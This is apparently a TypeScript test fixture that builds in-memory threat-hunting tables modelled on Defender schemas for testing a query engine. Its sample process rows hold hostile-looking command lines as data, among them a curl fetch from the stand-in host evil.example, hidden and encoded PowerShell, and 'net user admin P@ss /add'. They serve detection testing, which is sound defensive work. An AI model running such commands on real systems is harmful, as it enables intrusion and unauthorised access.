/** Small in-memory hunting tables for the engine's tests (subsets of the real Defender schemas). */
import type { KqlType, Row, ScanHints, TableSource } from './types.js';

export const NOW_MS = Date.parse('2024-03-26T12:00:00Z');
const H = 3_600_000;
const at = (msAgo: number) => new Date(NOW_MS - msAgo);

export interface SpyTable extends TableSource {
  /** Hints of every scan, in order. */
  readonly calls: ScanHints[];
  /** Rows the table handed out (after applying hints). */
  produced: number;
}

/** A table that honours hints (as a real generator would) and records them. */
export function memoryTable(
  name: string,
  columns: readonly (readonly [string, KqlType])[],
  rows: readonly Row[],
  honourHints = true,
): SpyTable {
  const table: SpyTable = {
    name,
    columns,
    calls: [],
    produced: 0,
    *scan(hints: ScanHints) {
      table.calls.push(hints);
      const ids = hints.deviceIds ? new Set(hints.deviceIds) : null;
      const names = hints.deviceNames ? new Set(hints.deviceNames.map((n) => n.toLowerCase())) : null;
      for (const r of rows) {
        if (honourHints) {
          const ts = r.Timestamp instanceof Date ? r.Timestamp.getTime() : null;
          if (ts !== null && hints.fromMs !== undefined && ts < hints.fromMs) continue;
          if (ts !== null && hints.toMs !== undefined && ts > hints.toMs) continue;
          if (ids && !ids.has(String(r.DeviceId))) continue;
          if (names && !names.has(String(r.DeviceName).toLowerCase())) continue;
        }
        table.produced++;
        yield r;
      }
    },
  };
  return table;
}

export const PROCESS_COLUMNS: [string, KqlType][] = [
  ['Timestamp', 'datetime'],
  ['DeviceId', 'string'],
  ['DeviceName', 'string'],
  ['ActionType', 'string'],
  ['FileName', 'string'],
  ['FolderPath', 'string'],
  ['ProcessId', 'long'],
  ['ProcessCommandLine', 'string'],
  ['AccountName', 'string'],
  ['InitiatingProcessFileName', 'string'],
  ['InitiatingProcessId', 'long'],
  ['ReportId', 'long'],
  ['AdditionalFields', 'string'],
];

export const NETWORK_COLUMNS: [string, KqlType][] = [
  ['Timestamp', 'datetime'],
  ['DeviceId', 'string'],
  ['DeviceName', 'string'],
  ['ActionType', 'string'],
  ['RemoteIP', 'string'],
  ['RemotePort', 'int'],
  ['RemoteUrl', 'string'],
  ['LocalIP', 'string'],
  ['Protocol', 'string'],
  ['InitiatingProcessFileName', 'string'],
  ['InitiatingProcessId', 'long'],
];

export const TVM_COLUMNS: [string, KqlType][] = [
  ['DeviceId', 'string'],
  ['DeviceName', 'string'],
  ['SoftwareName', 'string'],
  ['CveId', 'string'],
  ['VulnerabilitySeverityLevel', 'string'],
  ['CveTags', 'dynamic'],
];

function proc(
  msAgo: number,
  deviceId: string,
  deviceName: string,
  fileName: string,
  processId: number,
  commandLine: string,
  account: string,
  parent: string,
  parentId: number,
  reportId: number,
  additional = '',
): Row {
  return {
    Timestamp: at(msAgo),
    DeviceId: deviceId,
    DeviceName: deviceName,
    ActionType: 'ProcessCreated',
    FileName: fileName,
    FolderPath: deviceId === 'd3' ? `/usr/bin/${fileName}` : `C:\\Windows\\System32\\${fileName}`,
    ProcessId: processId,
    ProcessCommandLine: commandLine,
    AccountName: account,
    InitiatingProcessFileName: parent,
    InitiatingProcessId: parentId,
    ReportId: reportId,
    AdditionalFields: additional,
  };
}

export const PROCESS_ROWS: Row[] = [
  proc(
    1 * H,
    'd1',
    'ws-01.contoso.com',
    'cmd.exe',
    1001,
    'cmd.exe /c whoami /all',
    'alice',
    'explorer.exe',
    900,
    1,
    '{"ParentProcessName":"explorer.exe","Count":3,"Tags":["a","b"]}',
  ),
  proc(
    2 * H,
    'd1',
    'ws-01.contoso.com',
    'powershell.exe',
    1002,
    'powershell.exe -EncodedCommand SQBFAFgA',
    'alice',
    'cmd.exe',
    1001,
    2,
  ),
  proc(
    3 * H,
    'd2',
    'SRV-02',
    'PowerShell.exe',
    1003,
    'PowerShell.exe -nop -w hidden',
    'bob',
    'services.exe',
    600,
    3,
  ),
  proc(25 * H, 'd2', 'SRV-02', 'net.exe', 1004, 'net user admin P@ss /add', 'bob', 'cmd.exe', 1100, 4),
  proc(
    49 * H,
    'd3',
    'mac-03',
    'bash',
    1005,
    'bash -c curl http://evil.example/x.sh',
    'carol',
    'sshd',
    500,
    5,
  ),
  proc(
    40 * 24 * H,
    'd1',
    'ws-01.contoso.com',
    'ancient.exe',
    1006,
    'ancient.exe',
    'alice',
    'explorer.exe',
    900,
    6,
  ),
];

function net(
  msAgo: number,
  deviceId: string,
  deviceName: string,
  actionType: string,
  remoteIp: string,
  remotePort: number,
  remoteUrl: string,
  localIp: string,
  protocol: string,
  parent: string,
  parentId: number,
): Row {
  return {
    Timestamp: at(msAgo),
    DeviceId: deviceId,
    DeviceName: deviceName,
    ActionType: actionType,
    RemoteIP: remoteIp,
    RemotePort: remotePort,
    RemoteUrl: remoteUrl,
    LocalIP: localIp,
    Protocol: protocol,
    InitiatingProcessFileName: parent,
    InitiatingProcessId: parentId,
  };
}

export const NETWORK_ROWS: Row[] = [
  net(
    1 * H - 60_000,
    'd1',
    'ws-01.contoso.com',
    'ConnectionSuccess',
    '203.0.113.5',
    443,
    'evil.example',
    '10.0.0.5',
    'Tcp',
    'powershell.exe',
    1002,
  ),
  net(
    2 * H,
    'd1',
    'ws-01.contoso.com',
    'ConnectionSuccess',
    '10.0.0.10',
    445,
    '',
    '10.0.0.5',
    'Tcp',
    'cmd.exe',
    1001,
  ),
  net(
    3 * H,
    'd2',
    'SRV-02',
    'ConnectionFailed',
    '198.51.100.7',
    80,
    'update.example.org',
    '10.0.1.7',
    'Tcp',
    'PowerShell.exe',
    1003,
  ),
  net(
    5 * H,
    'd2',
    'SRV-02',
    'ConnectionSuccess',
    '192.168.1.1',
    53,
    '',
    '10.0.1.7',
    'Udp',
    'svchost.exe',
    777,
  ),
  net(
    49 * H,
    'd3',
    'mac-03',
    'ConnectionSuccess',
    '203.0.113.5',
    80,
    'evil.example',
    '10.0.2.9',
    'Tcp',
    'bash',
    1005,
  ),
];

export const TVM_ROWS: Row[] = [
  {
    DeviceId: 'd1',
    DeviceName: 'ws-01.contoso.com',
    SoftwareName: 'chrome',
    CveId: 'CVE-2024-0001',
    VulnerabilitySeverityLevel: 'High',
    CveTags: ['ZeroDay', 'Exploit'],
  },
  {
    DeviceId: 'd1',
    DeviceName: 'ws-01.contoso.com',
    SoftwareName: 'office',
    CveId: 'CVE-2024-0002',
    VulnerabilitySeverityLevel: 'Medium',
    CveTags: [],
  },
  {
    DeviceId: 'd2',
    DeviceName: 'SRV-02',
    SoftwareName: 'chrome',
    CveId: 'CVE-2024-0001',
    VulnerabilitySeverityLevel: 'High',
    CveTags: { note: 'x' },
  },
];

export function makeTables(honourHints = true) {
  const process = memoryTable('DeviceProcessEvents', PROCESS_COLUMNS, PROCESS_ROWS, honourHints);
  const network = memoryTable('DeviceNetworkEvents', NETWORK_COLUMNS, NETWORK_ROWS, honourHints);
  const tvm = memoryTable('DeviceTvmSoftwareVulnerabilities', TVM_COLUMNS, TVM_ROWS, honourHints);
  return { process, network, tvm, all: [process, network, tvm] as TableSource[] };
}
